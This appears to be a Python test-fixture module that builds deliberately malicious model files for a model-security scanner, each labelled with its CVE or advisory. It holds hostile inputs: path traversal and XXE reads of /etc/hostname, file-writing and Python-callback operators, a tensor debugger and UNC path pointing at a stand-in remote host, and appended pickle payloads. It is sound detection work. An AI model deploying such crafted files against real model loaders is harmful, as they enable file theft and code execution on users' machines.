"""Graphs of operators: TensorFlow, TFLite, ONNX, Caffe, MXNet, Paddle, Core ML, OpenVINO, TensorRT and their kin."""

# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs

import json
import struct
from collections.abc import Callable

from .containers import zipped
from .technique import NOWHERE, field, harm, one

TF = "TensorFlow SavedModel, operators with side effects: "
JFROG = "JFrog model threats: "
ONNX = "ONNX advisories: "
AUDIT = "promptfoo/modelaudit scanners: "


# TensorFlow: NodeDef{name=1, op=2, input=3, attr=5}, GraphDef{node=1, library=2}, FunctionDef{signature=1, node_def=3},
# MetaGraphDef{graph_def=2, asset_file_def=6}, SavedModel{schema_version=1, meta_graphs=2}; tensorflow/core/framework.


def node(op: str, **attributes: bytes) -> bytes:
    """Return a NodeDef; attributes are AttrValue messages."""
    out = field(1, op.lower()) + field(2, op)
    for key, held in attributes.items():
        out += field(5, field(1, key) + field(2, held))
    return out


def constant(data: bytes) -> bytes:
    """Return a NodeDef of a string constant."""
    tensor = field(1, 7) + field(2, b"") + field(8, data)
    return node("Const", value=field(8, tensor), dtype=field(6, 7))


def graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    """Return a GraphDef."""
    library = field(2, b"".join(field(1, function) for function in functions)) if functions else b""
    return b"".join(field(1, held) for held in nodes) + library


def saved(graph_def: bytes, more: bytes = b"") -> bytes:
    """Return a SavedModel of one MetaGraph."""
    meta = field(1, field(4, "serve") + field(5, "2.19.0")) + field(2, graph_def) + more
    return field(1, 1) + field(2, meta)


def model(*nodes: bytes, functions: tuple[bytes, ...] = (), more: bytes = b"") -> bytes:
    """Return a SavedModel of these nodes."""
    return saved(graph(*nodes, functions=functions), more)


def function(*nodes: bytes) -> bytes:
    """Return a FunctionDef."""
    return field(1, field(1, "__inference_f")) + b"".join(field(3, held) for held in nodes)


def _single(op: str, **attributes: bytes) -> Callable[[], bytes]:
    return lambda: model(node("Placeholder", dtype=field(6, 1)), node(op, **attributes))


def _nested_graph() -> bytes:
    """A graph in a string constant, which DatasetFromGraph runs."""
    inner = graph(constant(b"/tmp/lockgate-blind"), node("WriteFile"))
    return model(constant(inner), node("DatasetFromGraph"))


def _asset() -> bytes:
    asset = field(1, field(1, "asset:0")) + field(2, "../../../../etc/hostname")
    return model(node("Placeholder"), more=field(6, asset))


def _lambda_metadata() -> bytes:
    """The Keras half of a SavedModel: SavedMetadata{nodes=1{identifier=4, metadata=5}}."""
    layer = {
        "class_name": "Lambda",
        "name": "l",
        "config": {"name": "l", "function": {"items": ["4wEAAAA=", None, None]}},
    }
    return field(
        1, field(2, 1) + field(3, "root.layer-0") + field(4, "_tf_keras_layer") + field(5, json.dumps(layer))
    )


# ONNX: ModelProto{ir_version=1, producer_name=2, graph=7, opset_import=8, metadata_props=14, functions=25},
# GraphProto{node=1, name=2, initializer=5, sparse_initializer=15}, NodeProto{input=1, output=2, op_type=4, attribute=5, domain=7},
# AttributeProto{name=1, i=3, s=4, t=5, g=6, type=20}, TensorProto{dims=1, data_type=2, name=8, raw_data=9, external_data=13, data_location=14}.


def outside(path: str) -> bytes:
    """Return a TensorProto whose data lies at this path."""
    return (
        field(1, 4)
        + field(2, 1)
        + field(8, "w")
        + field(13, field(1, "location") + field(2, path))
        + field(14, 1)
    )


def step(op: str, domain: str = "", attributes: bytes = b"") -> bytes:
    """Return a NodeProto."""
    return field(1, "x") + field(2, "y") + field(4, op) + attributes + (field(7, domain) if domain else b"")


def onnx(body: bytes, more: bytes = b"", domains: tuple[str, ...] = ("",)) -> bytes:
    """Return a ModelProto around a GraphProto."""
    imports = b"".join(field(8, (field(1, domain) if domain else b"") + field(2, 17)) for domain in domains)
    return field(1, 8) + field(2, "lockgate") + field(7, body + field(2, "g")) + imports + more


def _subgraph() -> bytes:
    inner = field(2, "then") + field(5, outside("/etc/hostname")) + field(1, step("Identity"))
    branch = field(5, field(1, "then_branch") + field(6, inner) + field(20, 5))
    return onnx(field(1, step("If", attributes=branch)))


def _context(path: str) -> bytes:
    attributes = field(5, field(1, "embed_mode") + field(3, 0) + field(20, 2)) + field(
        5, field(1, "ep_cache_context") + field(4, path) + field(20, 3)
    )
    return onnx(field(1, step("EPContext", "com.microsoft", attributes)), domains=("", "com.microsoft"))


# TFLite: a FlatBuffer with the identifier TFL3; Model{version, operator_codes, subgraphs, description, buffers}.


def tflite(custom: str) -> bytes:
    """Return a TFLite model of one custom operator."""
    import flatbuffers

    builder = flatbuffers.Builder(256)
    title = builder.CreateString(custom)
    builder.StartObject(4)
    builder.PrependUOffsetTRelativeSlot(1, title, 0)
    builder.PrependInt8Slot(0, 32, 0)
    builder.PrependInt32Slot(3, 32, 0)
    code = builder.EndObject()
    builder.StartObject(2)
    operator = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(operator)
    operators = builder.EndVector()
    builder.StartObject(5)
    builder.PrependUOffsetTRelativeSlot(3, operators, 0)
    subgraph = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(code)
    codes = builder.EndVector()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(subgraph)
    subgraphs = builder.EndVector()
    builder.StartObject(5)
    builder.PrependUint32Slot(0, 3, 0)
    builder.PrependUOffsetTRelativeSlot(1, codes, 0)
    builder.PrependUOffsetTRelativeSlot(2, subgraphs, 0)
    builder.Finish(builder.EndObject(), b"TFL3")
    return bytes(builder.Output())


OPERATOR = ("040",)
OUT = ("050",)
FOREIGN = ("051",)

TECHNIQUES = [
    one(
        "Python called back from a graph",
        JFROG + "TFLOW-MALOPS",
        OPERATOR,
        _single("EagerPyFunc", token=field(2, "pyfunc_0")),
        "saved_model.pb",
    ),
    one(
        "writing only inside a function",
        "promptfoo/modelaudit pull request 676",
        OPERATOR,
        lambda: model(node("PartitionedCall"), functions=(function(constant(b"/tmp/x"), node("WriteFile")),)),
        "saved_model.pb",
    ),
    one(
        "graph in a constant, run as a data set",
        "MediumIQ/tfhunt-savedmodel-nested-writefile",
        OPERATOR,
        _nested_graph,
        "saved_model.pb",
    ),
    one(
        "constant mapped from a file",
        TF + "ImmutableConst",
        OPERATOR,
        _single("ImmutableConst", memory_region_name=field(2, "/etc/hostname")),
        "saved_model.pb",
    ),
    one(
        "debugger that sends tensors away",
        TF + "DebugIdentityV3",
        OPERATOR,
        _single("DebugIdentityV3", debug_urls=field(1, field(2, "grpc://" + NOWHERE + ":1"))),
        "saved_model.pb",
    ),
    one(
        "printing into a file",
        TF + "PrintV2",
        OPERATOR,
        _single("PrintV2", output_stream=field(2, "file:///tmp/lockgate-blind")),
        "saved_model.pb",
    ),
    one("query of a data base", TF + "SqlDataset", OPERATOR, _single("SqlDataset"), "saved_model.pb"),
    one(
        "call of another machine",
        TF + "RpcCall of tensorflow.contrib",
        OPERATOR,
        _single("TryRpc"),
        "saved_model.pb",
    ),
    one(
        "folder that is emptied",
        TF + "MergeV2Checkpoints",
        OPERATOR,
        _single("MergeV2Checkpoints", delete_old_dirs=field(5, 1)),
        "saved_model.pb",
    ),
    one(
        "serialized engine of another compiler",
        TF + "TRTEngineOp",
        OPERATOR,
        _single("TRTEngineOp"),
        "saved_model.pb",
    ),
    one(
        "operator that nobody registered",
        TF + "custom operators",
        OPERATOR,
        _single("LockgateBlindOp"),
        "saved_model.pb",
    ),
    one(
        "asset outside of the model",
        TF + "asset_file_def",
        ("020", "032", "040", "050"),
        _asset,
        "saved_model.pb",
    ),
    one(
        "Lambda layer in the Keras half",
        JFROG + "TFLOW-LAMBDA",
        ("030",),
        _lambda_metadata,
        "keras_metadata.pb",
    ),
    one(
        "SavedModel written as text",
        TF + "saved_model.pbtxt",
        OPERATOR,
        lambda: (
            b'saved_model_schema_version: 1\nmeta_graphs {\n graph_def {\n  node { name: "w" op: "WriteFile" }\n }\n}\n'
        ),
        "saved_model.pbtxt",
    ),
    one(
        "MetaGraph of a checkpoint",
        AUDIT + "tf_metagraph (#637)",
        OPERATOR,
        lambda: field(1, field(5, "1.15")) + field(2, graph(node("PyFuncStateless"))),
        "model.ckpt.meta",
    ),
    one(
        "frozen graph",
        AUDIT + "tf_savedmodel",
        OPERATOR,
        lambda: graph(node("Placeholder"), node("ReadFile")),
        "frozen.pb",
    ),
    one(
        "Flex operator in TFLite",
        "TensorFlow Lite, select operators",
        OPERATOR,
        lambda: tflite("FlexWriteFile"),
        "model.tflite",
    ),
    one(
        "custom operator in TFLite",
        AUDIT + "tflite",
        OPERATOR,
        lambda: tflite("LockgateBlind"),
        "model.tflite",
    ),
    one(
        "program behind a TFLite model",
        AUDIT + "tflite; metadata is a zip behind the model",
        ("026", "001", "101"),
        lambda: tflite("TFLite_Detection_PostProcess") + zipped({"a.pkl": harm()}),
        "model.tflite",
    ),
    one(
        "tensor at an absolute path",
        ONNX + "CVE-2022-25882",
        OUT,
        lambda: onnx(field(5, outside("/etc/hostname"))),
        "model.onnx",
    ),
    one(
        "tensor at a path that goes down and up",
        ONNX + "CVE-2024-27318 and CVE-2026-27489",
        OUT,
        lambda: onnx(field(5, outside("data/../../../etc/hostname"))),
        "model.onnx",
    ),
    one(
        "tensor at a UNC path",
        ONNX + "CVE-2025-51480, on Windows",
        OUT,
        lambda: onnx(field(5, outside("\\\\" + NOWHERE + "\\s\\w"))),
        "model.onnx",
    ),
    one("tensor outside, in a branch", ONNX + "subgraphs", OUT, _subgraph, "model.onnx"),
    one(
        "tensor outside, in an attribute",
        ONNX + "constants",
        OUT,
        lambda: onnx(
            field(
                1,
                step(
                    "Constant",
                    attributes=field(5, field(1, "value") + field(5, outside("../w")) + field(20, 4)),
                ),
            )
        ),
        "model.onnx",
    ),
    one(
        "tensor outside, in a sparse tensor",
        ONNX + "sparse initializers",
        OUT,
        lambda: onnx(field(15, field(1, outside("../w")) + field(3, 4))),
        "model.onnx",
    ),
    one(
        "tensor outside, in a function",
        ONNX + "model-local functions",
        OUT,
        lambda: onnx(
            b"",
            field(
                25,
                field(1, "f")
                + field(10, "local")
                + field(
                    7,
                    step(
                        "Constant",
                        attributes=field(5, field(1, "value") + field(5, outside("/etc/hostname"))),
                    ),
                ),
            ),
        ),
        "model.onnx",
    ),
    one(
        "tensor outside, in the training half",
        ONNX + "TrainingInfoProto",
        OUT,
        lambda: onnx(b"", field(20, field(2, field(5, outside("/etc/hostname")) + field(2, "t")))),
        "model.onnx",
    ),
    one(
        "compiled context from another file",
        "ONNX Runtime, EPContext design",
        ("050", "051"),
        lambda: _context("../../ctx.bin"),
        "model.onnx",
    ),
    one(
        "Python operator",
        AUDIT + "onnx PythonOp (#140)",
        FOREIGN,
        lambda: onnx(field(1, step("PyOp", "com.microsoft.pyop")), domains=("", "com.microsoft.pyop")),
        "model.onnx",
    ),
    one(
        "operator of an unknown domain",
        "binaryninja/Malicious-Models, onnx-mm",
        FOREIGN,
        lambda: onnx(field(1, step("Shell", "lockgate.blind")), domains=("", "lockgate.blind")),
        "model.onnx",
    ),
    one(
        "operator under the standard's own name",
        "ONNX operator sets: nothing of that name",
        FOREIGN,
        lambda: onnx(field(1, step("SystemCall"))),
        "model.onnx",
    ),
    one(
        "pickle behind an ONNX model",
        "protobuf, unknown fields are kept",
        ("026", "001", "007", ""),
        lambda: onnx(field(1, step("Identity"))) + field(2047, harm()),
        "model.onnx",
    ),
    one(
        "Python layer of Caffe",
        "Caffe, python_param",
        OPERATOR,
        lambda: (
            b'name: "n"\nlayer {\n  name: "p"\n  type: "Python"\n  python_param { module: "evil" layer: "L" }\n}\n'
        ),
        "deploy.prototxt",
    ),
    one(
        "custom operator of MXNet",
        AUDIT + "mxnet (#379)",
        OPERATOR,
        lambda: json.dumps(
            {
                "nodes": [{"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": []}],
                "arg_nodes": [],
                "heads": [[0, 0, 0]],
                "attrs": {"mxnet_version": ["int", 10900]},
            }
        ).encode(),
        "model-symbol.json",
    ),
    one(
        "Python operator of Paddle",
        "PaddlePaddle, py_func",
        ("040", ""),
        lambda: field(1, field(1, 0) + field(2, (1 << 31) - 1) + field(4, field(3, "py_func"))),
        "inference.pdmodel",
    ),
    one(
        "custom layer of Core ML",
        AUDIT + "coreml (#635)",
        ("040", ""),
        lambda: (
            field(1, 5)
            + field(2, field(100, field(1, "d")))
            + field(500, field(1, field(1, "c") + field(500, field(10, "EvilLayer"))))
        ),
        "model.mlmodel",
    ),
    one(
        "extension layer of OpenVINO",
        AUDIT + "openvino",
        ("040", ""),
        lambda: (
            b'<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="e" type="Evil" version="extension" '
            b'library="/tmp/evil.so"/></layers><edges/></net>\n'
        ),
        "model.xml",
    ),
    one(
        "entity of PMML",
        AUDIT + "pmml",
        ("032", "050", "061", ""),
        lambda: (
            b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<PMML version="4.4"><Header>&x;</Header></PMML>\n'
        ),
        "model.pmml",
    ),
    one(
        "plugin of a TensorRT engine",
        AUDIT + "tensorrt",
        ("",),
        lambda: b"ftrt" + struct.pack("<I", 1) + bytes(64) + b"libevil.so\0",
        "model.plan",
    ),
    one(
        "weights of TensorFlow.js from elsewhere",
        "TensorFlow.js model.json, weightsManifest",
        ("050", "061", "020", "032"),
        lambda: json.dumps(
            {
                "format": "graph-model",
                "modelTopology": {"node": []},
                "weightsManifest": [{"paths": ["../../../etc/hostname"], "weights": []}],
            }
        ).encode(),
        "model.json",
    ),
]
